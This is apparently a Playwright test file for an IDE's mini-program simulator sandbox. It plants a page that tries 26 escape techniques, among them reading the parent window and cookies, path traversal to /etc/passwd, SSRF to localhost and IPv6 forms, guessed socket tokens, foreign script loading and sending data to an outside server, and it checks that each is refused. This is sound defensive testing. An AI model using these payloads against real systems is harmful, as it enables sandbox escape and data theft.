import { expect, test, type Page } from '@playwright/test';
import { pageOf, runIde, type RunningIde } from './testing/running-ide.ts';

/**
 * What a hostile program may try once it has found the real window of its frame. Each answers 'refused' or says
 * what it got. `real` is that window, `port` the host's port, `ask` wx.request as a promise.
 */
const tries: Record<string, string> = {
  'read the IDE document': 'return real.parent.document.title',
  'read the IDE address': 'return real.top.location.href',
  'read the IDE storage': 'return real.parent.localStorage.length',
  'lead the IDE elsewhere': 'real.top.location = "http://program.localhost/"; return "navigated"',
  'call a function of the IDE': 'return real.parent.eval("1")',
  'reach into the IDE through the frame element': 'return real.frameElement.ownerDocument.title',
  'fetch the IDE page': 'return (await real.fetch(`http://ide.localhost:${port}/`)).status',
  'fetch the host by address': 'return (await real.fetch(`http://127.0.0.1:${port}/`)).status',
  'open the IDE socket': 'return await open(`ws://ide.localhost:${port}/rpc`)',
  'open the sandbox without its token': 'return await open(`ws://${real.location.host}/sandbox`)',
  'open the sandbox with a guessed token':
    'return await open(`ws://${real.location.host}/sandbox?token=guess`)',
  'ask for the host by wx.request': 'return (await ask(`http://127.0.0.1:${port}/`)).statusCode',
  'ask for localhost by wx.request': 'return (await ask(`http://localhost:${port}/`)).statusCode',
  'ask for ide.localhost by wx.request': 'return (await ask(`http://ide.localhost:${port}/`)).statusCode',
  'ask for the host by IPv6': 'return (await ask(`http://[::ffff:127.0.0.1]:${port}/`)).statusCode',
  'ask for a file by wx.request': 'return (await ask("file:///etc/passwd")).statusCode',
  'read cookies of the IDE':
    'const c = real.document.cookie; if (c === "") throw new Error("none"); return c',
  'climb out of the assets with dots':
    'const r = await real.fetch("/program/../../../../etc/passwd"); if (!r.ok) throw 0; return (await r.text()).slice(0, 5)',
  'climb out with encoded dots':
    'const r = await real.fetch("/program/%2e%2e%2f%2e%2e%2fetc%2fpasswd"); if (!r.ok) throw 0; return (await r.text()).slice(0, 5)',
  'name an absolute path':
    'const r = await real.fetch("/program//etc/passwd"); if (!r.ok) throw 0; return (await r.text()).slice(0, 5)',
  'read the project sources as assets':
    'const r = await real.fetch("/program/project.config.json"); if (!r.ok) throw 0; return "source"',
  'open a window': 'const w = real.open("about:blank"); if (!w) throw new Error("blocked"); return "opened"',
  'send data to a foreign server':
    'return (await real.fetch("http://example.com/", { mode: "no-cors" })).type',
  'load a foreign script':
    'await new Promise((done, fail) => { const s = real.document.createElement("script"); s.src = "http://127.0.0.1:9/x.js"; s.onload = done; s.onerror = fail; real.document.head.append(s) }); return "loaded"',
  'frame the IDE':
    'const f = real.document.createElement("iframe"); f.src = `http://ide.localhost:${port}/`; real.document.body.append(f); await new Promise((done) => { f.onload = done; real.setTimeout(done, 800) }); const seen = f.contentDocument; f.remove(); if (!seen || !seen.querySelector("#root, .frame")) throw new Error("empty"); return "framed"',
  'ask another noun of the sandbox':
    'const simulator = real.__tesseraSimulator; return await simulator.runtime.host.call("files.read", {})',
};

const files = (port: string): Record<string, string> => ({
  'app.json': JSON.stringify({ pages: ['pages/a/a'] }),
  'app.js': 'App({})',
  'project.config.json': '{}',
  'pages/a/a.wxml': '<view id="a">{{done}}</view>',
  'pages/a/a.js': `
const real = (function () { return this })() || (0, eval)('this')
const port = ${port}
const ask = (url) => new Promise((success, fail) => wx.request({ url, success, fail: (e) => fail(new Error(e.errMsg)) }))
const open = (url) => new Promise((done, fail) => { const s = new real.WebSocket(url); s.onopen = () => done('open'); s.onerror = () => fail(new Error('refused')) })
const tries = { ${Object.entries(tries)
    .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
    .join(',\n')} }
Page({ data: { done: 'waiting' }, async onLoad() {
  const got = {}
  for (const [name, run] of Object.entries(tries)) {
    try { got[name] = 'got: ' + String(await run()) } catch { got[name] = 'refused' }
  }
  real.__got = got
  this.setData({ done: 'tried ' + JSON.stringify(got) })
} })`,
});

test.describe('R-SIM sandbox', () => {
  let ide: RunningIde;
  let view: Page;

  test.afterAll(async () => {
    await view?.close();
    await ide?.close();
  });

  test(`${Object.keys(tries).length} tries to get out are refused`, async ({ browser }) => {
    ide = await runIde({ 'app.json': JSON.stringify({ pages: [] }), 'project.config.json': '{}' });
    const { port } = new URL(ide.address);
    for (const [file, text] of Object.entries(files(port))) await ide.write(file, text);
    view = await browser.newPage({ viewport: { width: 1500, height: 1150 } });
    const popups: string[] = [];
    view.on('popup', (popup) => popups.push(popup.url()));
    await view.goto(ide.address);
    const line = pageOf(view).locator('#a');
    await expect(line).toContainText('tried', { timeout: 40_000 });
    const got = JSON.parse((await line.textContent())!.slice('tried '.length)) as Record<string, string>;
    expect(got).toEqual(Object.fromEntries(Object.keys(tries).map((name) => [name, 'refused'])));
    expect(popups).toEqual([]);
    expect(new URL(view.url()).hostname).toBe('ide.localhost');
  });
});
